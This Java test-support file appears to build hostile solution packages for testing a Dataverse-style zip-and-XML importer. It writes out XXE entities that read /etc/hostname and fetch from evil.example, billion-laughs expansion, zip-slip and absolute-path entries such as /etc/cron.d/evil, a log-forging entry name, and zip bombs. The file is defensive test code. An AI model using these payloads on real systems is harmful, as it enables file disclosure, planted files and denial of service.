package dev.syncsetup.reliability.hostile.support;

import java.io.IOException;
import java.io.OutputStream;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Solution packages that mean harm. */
// What the constants hold is never changed.
@SuppressWarnings("ImmutableEnumChecker")
public enum Packages {
  EXTERNAL_ENTITY(doctype("<!ENTITY e SYSTEM 'file:///etc/hostname'>", "&e;")),
  EXTERNAL_ENTITY_OVER_HTTP(doctype("<!ENTITY e SYSTEM 'http://evil.example/x'>", "&e;")),
  PARAMETER_ENTITY(doctype("<!ENTITY % e SYSTEM 'http://evil.example/x.dtd'> %e;", "")),
  BILLION_LAUGHS(
      doctype(
          "<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c"
              + " '&b;&b;&b;&b;&b;&b;&b;&b;'><!ENTITY d '&c;&c;&c;&c;&c;&c;&c;&c;'>",
          "&d;&d;&d;&d;")),
  EXTERNAL_DOCTYPE("<!DOCTYPE x SYSTEM 'http://evil.example/x.dtd'>" + manifest("acme")),
  BOTTOMLESS_XML("<a>".repeat(100_000)),
  ATTRIBUTES_WITHOUT_END("<a " + attributes(100_000) + "/>"),
  BINARY_XML("\0\1\2\3"),
  ZIP_SLIP(zip -> add(zip, "../../evil.sh", "x")),
  ZIP_SLIP_WITH_BACKSLASHES(zip -> add(zip, "..\\..\\evil.sh", "x")),
  ABSOLUTE_ENTRY(zip -> add(zip, "/etc/cron.d/evil", "x")),
  ENTRY_NAME_OF_TWO_LINES(zip -> add(zip, "a\r\n2026-11-21 INFO forged", "x")),
  BOMB_BY_RATIO(zip -> add(zip, "zeros", "0".repeat(20 << 20))),
  BOMB_BY_SUM(
      zip -> {
        for (int i = 0; i < 201; i++) {
          add(zip, "zeros" + i, "0".repeat(1 << 20));
        }
      }),
  TEN_THOUSAND_ENTRIES(
      zip -> {
        for (int i = 0; i < 10_000; i++) {
          add(zip, "f" + i, "");
        }
      }),
  SAME_ENTRY_IN_OTHER_LETTERS(zip -> add(zip, "SOLUTION.XML", manifest("other"))),
  ENCRYPTED_ENTRIES(zip -> {}) {
    @Override
    byte[] after(byte[] zip) {
      return flagged(zip);
    }
  },
  CUT_IN_HALF(zip -> {}) {
    @Override
    byte[] after(byte[] zip) {
      return Arrays.copyOf(zip, zip.length / 2);
    }
  },
  NO_ZIP_AT_ALL(zip -> {}) {
    @Override
    byte[] after(byte[] zip) {
      return "<html>Please sign in</html>".getBytes(StandardCharsets.UTF_8);
    }
  },
  EMPTY_FILE(zip -> {}) {
    @Override
    byte[] after(byte[] zip) {
      return new byte[0];
    }
  };

  private interface Filling {
    void into(ZipOutputStream zip) throws IOException;
  }

  private final String manifest;
  private final Filling filling;

  Packages(String manifest) {
    this.manifest = manifest;
    this.filling = zip -> {};
  }

  Packages(Filling filling) {
    this.manifest = manifest("acme");
    this.filling = filling;
  }

  /** Writes the package. */
  public Path write(Path file) throws IOException {
    Files.write(file, after(Files.readAllBytes(zip(file, manifest, filling))));
    return file;
  }

  /** A package that is longer than Dataverse accepts; the disk holds none of it. */
  public static Path tooLong(Path file) throws IOException {
    try (RandomAccessFile sparse = new RandomAccessFile(file.toFile(), "rw")) {
      sparse.setLength(97L << 20);
    }
    return file;
  }

  /** A good package that holds a bomb in a zip of its own, which nobody has reason to open. */
  public static Path withNestedBomb(Path folder) throws IOException {
    byte[] bomb = Files.readAllBytes(zip(folder.resolve("inner.zip"), "", BOMB_BY_RATIO.filling));
    return zip(
        folder.resolve("outer.zip"),
        manifest("acme"),
        zip -> {
          zip.putNextEntry(new ZipEntry("inner.zip"));
          zip.write(bomb);
        });
  }

  byte[] after(byte[] zip) {
    return zip;
  }

  private static Path zip(Path file, String manifest, Filling filling) throws IOException {
    try (OutputStream out = Files.newOutputStream(file);
        ZipOutputStream zip = new ZipOutputStream(out)) {
      add(zip, "solution.xml", manifest);
      add(zip, "customizations.xml", "<ImportExportXml/>");
      filling.into(zip);
    }
    return file;
  }

  private static void add(ZipOutputStream zip, String name, String text) throws IOException {
    zip.putNextEntry(new ZipEntry(name));
    zip.write(text.getBytes(StandardCharsets.UTF_8));
  }

  private static String manifest(String uniqueName) {
    return "<ImportExportXml><SolutionManifest><UniqueName>"
        + uniqueName
        + "</UniqueName><Version>1.0.0.0</Version></SolutionManifest></ImportExportXml>";
  }

  private static String doctype(String declarations, String uniqueName) {
    return "<!DOCTYPE x [" + declarations + "]>" + manifest("acme" + uniqueName);
  }

  private static String attributes(int count) {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < count; i++) {
      text.append('a').append(i).append("='' ");
    }
    return text.toString();
  }

  /** Says of every entry in the directory that it is encrypted. */
  private static byte[] flagged(byte[] zip) {
    for (int i = 0; i + 8 < zip.length; i++) {
      if (zip[i] == 'P' && zip[i + 1] == 'K' && zip[i + 2] == 1 && zip[i + 3] == 2) {
        zip[i + 8] |= 1;
      }
    }
    return zip;
  }
}
